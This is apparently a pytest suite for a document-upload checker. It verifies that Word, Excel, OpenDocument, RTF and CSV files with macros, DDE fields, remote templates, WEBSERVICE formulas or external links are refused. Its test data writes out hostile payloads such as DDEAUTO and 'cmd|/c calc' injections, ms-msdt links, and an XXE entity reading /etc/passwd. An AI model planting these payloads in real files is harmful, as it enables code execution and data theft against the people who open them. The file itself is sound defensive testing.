"""Office files and rich text that run or fetch something when they are opened are refused."""

import io
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from complaints.documents.inspection.file_contents import FileContents
from complaints.documents.operations import uploads
from councils.vocabulary.errors import RuleBroken
from tests.integration.complaints.uploading import (
    EXCEL,
    LIMIT,
    MAIN,
    NAMES,
    OOXML,
    WORD,
    document,
    external,
    field,
    kept,
    office,
    photograph,
    picture,
    refused,
    relation,
    text_document,
    types,
)


def without_declaration(part: bytes, encoding: str) -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?>{part.decode()}'.encode(encoding)


SIGNED = types(("word/document.xml", MAIN)).replace(
    b"</Types>",
    b'<Default Extension="sigs" '
    b'ContentType="application/vnd.openxmlformats-package.digital-signature-origin"/></Types>',
)
MACRO = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


@pytest.mark.parametrize(
    "part",
    [
        {"word/vbaData.xml": b"<x/>"},
        {"word/vbaData.bin": b"x"},
        {"word/other.bin": b"x"},
        {"xl/macrosheets/sheet1.xml": b"<x/>"},
        {"Basic/Standard/Module1.xml": b"<x/>"},
        {"word/embeddings/program.exe": b"MZ"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/activeX/activeX1.bin": b"x"},
        {"Object 1/payload.js": b"x"},
        {"word/_rels/settings.xml.rels": external("attachedTemplate")},
        {"word/_rels/settings.xml.rels": external("&#97;ttachedTemplate")},
        {"word/_rels/settings.xml.rels": without_declaration(external("attachedTemplate"), "utf-16")},
        {"word/_rels/SETTINGS.XML.RELS": external("attachedTemplate")},
        {"word/_rels/settings.xml.rels": external("http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject")},
        {"word/_rels/document.xml.rels": external("oleObject")},
        {"word/_rels/document.xml.rels": external("image")},
        {"word/_rels/document.xml.rels": external("package")},
        {"word/_rels/document.xml.rels": relation("image", "https://elsewhere.example/x", " external ")},
        {"word/_rels/webSettings.xml.rels": external("frame")},
        {"word/_rels/document.xml.rels": external("hyperlink", "file://host/share")},
        {"word/_rels/document.xml.rels": external("hyperlink", "\\\\host\\share")},
        {"word/_rels/document.xml.rels": external("hyperlink", "ms-msdt:/id")},
        {"word/_rels/document.xml.rels": external("hyperlink", "java&#10;script:alert(1)")},
        {"word/_rels/document.xml.rels": relation(MACRO, "media/image1.png")},
        {"word/_rels/document.xml.rels": relation("aFChunk", "x.docx")},
        {"word/_rels/document.xml.rels": relation("https://elsewhere.example/image", "image1.png")},
        {"word/x.docm": office(WORD)},
        {"word/embeddings/inside.docx": office({**WORD, "word/vbaProject.bin": b"x"})},
        {"word/embeddings/inside.docx": office({**WORD, "word/deeper.docx": office(WORD)})},
        {"[Content_Types].xml": types(("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))},
        {"[Content_Types].xml": types(("word/document.xml", MAIN), ("word/x.png", f"{OOXML}.oleObject"))},
        {"[Content_Types].xml": types(("word/x.xml", "application/vnd.ms-office.activeX+xml"))},
        {"word/document.xml": document(field("DDEAUTO c:\\windows\\x"))},
        {"word/document.xml": document(field("DD", "EAUTO", " c:\\windows\\x"))},
        {"word/document.xml": document(field(' includepicture "https://elsewhere.example"'))},
        {"word/document.xml": document(field('HYPERLINK "file://host/share"'))},
        {"word/document.xml": document(f'<w:fldChar w:fldCharType="begin"/>{field("QUOTE 68 68 69")}')},
        {"word/document.xml": document('<w:fldSimple w:instr="LINK Excel.Sheet x"/>')},
        {"word/document.xml": document('<v:imagedata src="\\\\host\\share"/>')},
        {"word/document.xml": document("<w:mailMerge/>")},
        {"word/document.xml": document(field("D</w:instrText><Choice/><w:instrText>DE c:\\windows\\x"))},
        {"word/document.xml": document(field("D<x/>DE c:\\windows\\x"))},
        {"word/document.xml": document(field(" " * 20_000, "DDE c:\\windows\\x"))},
        {
            "[Content_Types].xml": types(("word/document.png", MAIN)),
            "word/document.png": document(field("DDE c:\\windows\\x")),
        },
        {
            "[Content_Types].xml": types(
                ("word/document.xml", MAIN), ("word/x.xml", f"{OOXML}.spreadsheetml.table+xml")
            ),
            "word/x.xml": document(field("DDE c:\\windows\\x")),
        },
        {"word/_rels/document.xml.rels": relation("package", "media/image1.png")},
    ],
    ids=lambda part: next(iter(part)),
)
def test_a_word_file_that_runs_or_fetches_something_is_refused(part):
    assert refused("letter.docx", office({**WORD, **part})) == "file.active"


def sheet(formula: str) -> bytes:
    """A worksheet with a formula, and a text that looks like one."""
    return f'<x:worksheet><x:c><x:f t="x">{formula}</x:f></x:c><x:is><x:t>IMAGE (1)</x:t></x:is></x:worksheet>'.encode()


@pytest.mark.parametrize(
    "part",
    [
        {
            "xl/externalLinks/_rels/externalLink1.xml.rels": external(
                "externalLinkPath", "file:///\\\\host\\share\\x.xlsx"
            )
        },
        {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
        {"xl/_rels/workbook.xml.rels": relation("connections", "connections.xml")},
        {"[Content_Types].xml": types(("xl/connections.xml", f"{OOXML}.spreadsheetml.connections+xml"))},
        {"[Content_Types].xml": types(("xl/externalLink1.xml", f"{OOXML}.spreadsheetml.externalLink+xml"))},
        {"xl/unnamed.vml": b"<x/>"},
        {"xl/worksheets/sheet1.xml": sheet('_xlfn.WEBSERVICE("https://elsewhere.example/" &amp; A1)')},
        {"xl/worksheets/sheet1.xml": sheet("1+&#87;EBSERVICE(A1)")},
        {"xl/worksheets/sheet1.xml": sheet("_xlfn.IMAGE(A1)")},
        {"xl/worksheets/sheet1.xml": sheet("cmd|'/c calc'!A0")},
        {"xl/worksheets/sheet1.xml": sheet("'cmd'|'/c calc'!A0")},
        {"xl/worksheets/sheet1.xml": sheet("'\\\\host\\share\\[x.xlsx]a'!A1")},
        {"xl/worksheets/sheet1.xml": sheet('HYPERLINK("file://host/share","Read")')},
        {"xl/worksheets/sheet1.xml": sheet("<!-- -->SUM(1)")},
        {"xl/worksheets/sheet1.xml": sheet("SUM(1)").decode().encode("utf-16")},
        {"xl/workbook.xml": b"<workbook><definedName name='a'>RTD(&quot;x&quot;)</definedName></workbook>"},
    ],
    ids=lambda part: next(iter(part)),
)
def test_a_workbook_that_fetches_something_is_refused(part):
    assert refused("table.xlsx", office({**EXCEL, **part})) == "file.active"


@pytest.mark.parametrize(
    ("body", "parts"),
    [
        ("", {"Basic/Standard/Module1.xml": b"<x/>"}),
        ("", {"Scripts/python/x.py": b"import os"}),
        ("", {"Dialogs/Standard/Dialog1.xml": b"<x/>"}),
        ("", {"Object 1": b"x"}),
        ("", {"payload.exe": b"MZ"}),
        (
            "",
            {"Configurations2/keys.xml": b'<x xmlns:l="http://www.w3.org/1999/xlink" l:href="vnd.sun.star.script:x"/>'},
        ),
        ('<script:event-listener xlink:href="vnd.sun.star.script:x"/>', {}),
        ("<office:script/>", {}),
        ("<text:dde-connection-decl/>", {}),
        ('<draw:image xlink:href="https://elsewhere.example/x.png"/>', {}),
        ('<text:section-source xlink:href="../other.odt"/>', {}),
        ('<draw:floating-frame xlink:href="x"/>', {}),
        ('<text:a xlink:href="vnd.sun.star.script:x"/>', {}),
        ('<text:a xlink:href="file://host/share"/>', {}),
    ],
)
def test_an_opendocument_file_that_runs_or_fetches_something_is_refused(body, parts):
    assert refused("letter.odt", text_document(body, **parts)) == "file.active"


@pytest.mark.parametrize(
    "part",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY x "lol"><!ENTITY y "&x;&x;">]><a>&y;</a>',
        b"<cut short",
        b'<?xml version="1.0" encoding="UTF-7"?><a/>',
    ],
)
def test_an_office_file_whose_xml_can_be_read_in_two_ways_is_refused(part):
    assert refused("letter.docx", office({**WORD, "customXml/item1.xml": part})) == "file.damaged"


@pytest.mark.parametrize(
    "part",
    [
        b"<a>" + b"<b/>" * 1_000_001 + b"</a>",
        b"<a " + b" ".join(b'b%d=""' % number for number in range(400_000)) + b"/>",
    ],
    ids=["elements", "attributes"],
)
def test_an_office_file_of_very_many_elements_is_refused(part):
    assert refused("letter.docx", office({**WORD, "customXml/item1.xml": part})) == "file.bomb"


def test_an_instruction_of_very_many_lines_takes_no_time():
    body = "<instrText>" + "x\n" * 50_000_000 + "</instrText>"
    content = office({**WORD, "word/document.xml": document(body)})
    began = time.process_time()
    assert FileContents(LIMIT).kept("letter.docx", content) == content
    assert time.process_time() - began < 20, "it grows with the number of lines, not faster"


def test_files_inside_a_file_are_counted_with_it():
    inside = office({**WORD, "word/big.xml": b"<a>" + b" " * 30 * 2**20 + b"</a>"})
    parts = {f"word/embeddings/{number}.docx": inside for number in range(10)}
    assert refused("letter.docx", office({**WORD, **parts})) == "file.bomb"


def test_a_word_file_with_links_pictures_fields_and_a_table_inside_is_taken():
    fields = (
        field(' HYPERLINK "https://example.org/a b" \\o "Note: more" '),
        field(" PAGE "),
        field('TOC \\o "1-3" \\h'),
    )
    parts = {
        "word/document.xml": document('<v:imagedata o="x"/>'.join(fields) + '<w:fldSimple w:instr="NUMPAGES"/>'),
        "word/_rels/document.xml.rels": external("hyperlink", "https://example.org/?a=b:c"),
        "word/_rels/header1.xml.rels": external("hyperlink", "mailto:office@example.org"),
        "word/_rels/footer1.xml.rels": relation("image", "media/image1.png"),
        "word/charts/_rels/chart1.xml.rels": relation("package", "../embeddings/Microsoft_Excel_Sheet.xlsx"),
        "word/embeddings/Microsoft_Excel_Sheet.xlsx": office(EXCEL),
        "word/media/image1.png": picture(),
        "docProps/core.xml": b"<x/>",
    }
    content = office({**WORD, **parts})
    assert kept("letter.docx", content) == content


def test_a_workbook_with_very_many_cells_is_taken():
    cells = b"<worksheet>" + b"<c/>" * 1_000_001 + b"</worksheet>"
    content = office({**EXCEL, "xl/worksheets/sheet1.xml": cells, "xl/printerSettings/printerSettings1.bin": b"x"})
    assert kept("table.xlsx", content) == content


def test_an_opendocument_file_with_links_pictures_and_a_chart_is_taken():
    body = (
        '<text:a xlink:href="https://example.org/">site</text:a><text:a xlink:href="#heading">above</text:a>'
        '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>'
    )
    chart = f'<office:chart {NAMES} xlink:href=".."/>'.encode()
    more = {
        "Object 1/content.xml": chart,
        "Pictures/1.png": picture(),
        "Configurations2/accelerator/current.xml": b"",
    }
    content = text_document(body, **more, **{"Thumbnails/thumbnail.png": picture()})
    assert kept("letter.odt", content) == content


def test_an_opendocument_file_called_a_word_file_is_refused():
    assert refused("letter.docx", text_document("")) == "file.damaged"


def test_an_opendocument_file_with_a_password_is_refused():
    manifest = f"<manifest:manifest {NAMES}><manifest:encryption-data/></manifest:manifest>".encode()
    encrypted = {"content.xml": b"\x00\x01", "META-INF/manifest.xml": manifest}
    assert refused("letter.odt", text_document("", **encrypted)) == "file.locked"


def test_the_refusal_of_an_active_file_says_what_to_do():
    with pytest.raises(RuleBroken) as refusal:
        uploads.checked(SimpleUploadedFile("letter.docx", office({**WORD, "word/vbaProject.bin": b"x"})))
    assert refusal.value.message == (
        "“letter.docx” was not added because it contains macros. This does not mean that anything is wrong with it. "
        "Save it as a PDF and add the PDF."
    )


@pytest.mark.parametrize(
    "body",
    [
        rb"{\object\objocx{\*\objdata 0105000002000000}}",
        rb"{\object\objautlink\objupdate}",
        rb"{\*\template https://elsewhere.example/x.dotm}",
        rb"{\field{\*\fldinst DDEAUTO c:\\windows\\x}{\fldrslt x}}",
        rb"{\field{\*\fldinst {\b INCLUDE}{\i PICTURE} \\\\host\\x}{\fldrslt x}}",
        rb"{\field{\*\fldinst \'44DEAUTO c:\\windows\\x}{\fldrslt x}}",
        rb"{\field{\*\fldinst \u68?DEAUTO c:\\windows\\x}{\fldrslt x}}",
    ],
)
def test_rich_text_that_runs_or_fetches_something_is_refused(body):
    assert refused("letter.rtf", rb"{\rtf1\ansi Dear council " + body + b"}") == "file.active"


def test_rich_text_with_a_link_and_a_picture_is_taken():
    link = rb'{\field{\*\fldinst {\b HYPERLINK "https://example.org/link/"}{\*\datafield 00d0}}{\fldrslt site}}'
    content = rb"{\rtf1\ansi The object of my link " + link + rb"{\pict\pngblip 89504e47}{\*\objectproperties}}"
    assert kept("letter.rtf", content) == content


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A1:B2)/2",
        'TEXTJOIN("|",TRUE,A1:A3)',
        '"RTD("&amp;A1',
        'HYPERLINK("https://example.org/","Read")',
        "'Bins | June'!A1",
    ],
)
def test_a_workbook_that_calculates_is_taken(formula: str):
    content = office({**EXCEL, "xl/worksheets/sheet1.xml": sheet(formula)})
    assert kept("table.xlsx", content) == content


@pytest.mark.parametrize(
    ("line", "taken"),
    [
        ("1 June,-12.50,+44 1223 457000,- see image (1)", True),
        ("=SUM(A1:A3),https://example.org/", True),
        ('=WEBSERVICE("https://elsewhere.example/")', False),
        ('a,"=1+WEBSERVICE(""https://elsewhere.example/"")"', False),
        ("a;+cmd|'/c calc'!A0", False),
        ("a\t@RTD(1)", False),
    ],
)
def test_a_table_in_plain_text_fetches_nothing(line: str, taken: bool):
    content = f"Day,Amount\r\n{line}\r\n".encode()
    assert kept("table.csv", content) == content if taken else refused("table.csv", content) == "file.active"


def test_a_large_workbook_takes_no_time():
    rows = b'<c r="A1" t="n"><f>SUM(B1:B2)</f><v>1</v></c>' * 1_500_000
    content = office({**EXCEL, "xl/worksheets/sheet1.xml": b"<worksheet>" + rows + b"</worksheet>"})
    began = time.process_time()
    assert FileContents(LIMIT).kept("table.xlsx", content) == content
    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    ("name", "parts", "place"),
    [
        ("letter.docx", WORD, "word/media/image1.jpeg"),
        ("table.xlsx", EXCEL, "xl/media/image1.JPG"),
        ("letter.odt", None, "Pictures/1.jpg"),
    ],
)
def test_photographs_inside_lose_what_the_camera_wrote(name: str, parts: dict[str, bytes] | None, place: str):
    known = {"[Content_Types].xml": (parts or {}).get("[Content_Types].xml", b"").replace(b"image/png", b"image/jpeg")}
    known["[Content_Types].xml"] = known["[Content_Types].xml"].replace(
        b'Extension="png"', f'Extension="{place.rpartition(".")[2]}"'.encode()
    )
    picture = photograph("JPEG", 6)
    given = text_document("", **{place: picture}) if parts is None else office({**parts, **known, place: picture})
    with zipfile.ZipFile(io.BytesIO(kept(name, given))) as held, zipfile.ZipFile(io.BytesIO(given)) as before:
        assert held.namelist() == before.namelist()
        assert b"CANARY" in before.read(place)
        assert b"CANARY" not in held.read(place)
        assert dict(Image.open(io.BytesIO(held.read(place))).getexif()) == {0x0112: 6}
        assert all(held.read(part) == before.read(part) for part in before.namelist() if part != place)


def test_a_signed_file_stays_as_it_is():
    picture = {"word/media/image1.png": photograph("PNG"), "_xmlsignatures/origin.sigs": b""}
    signed = office({**WORD, **picture, "[Content_Types].xml": SIGNED})
    assert kept("letter.docx", signed) == signed
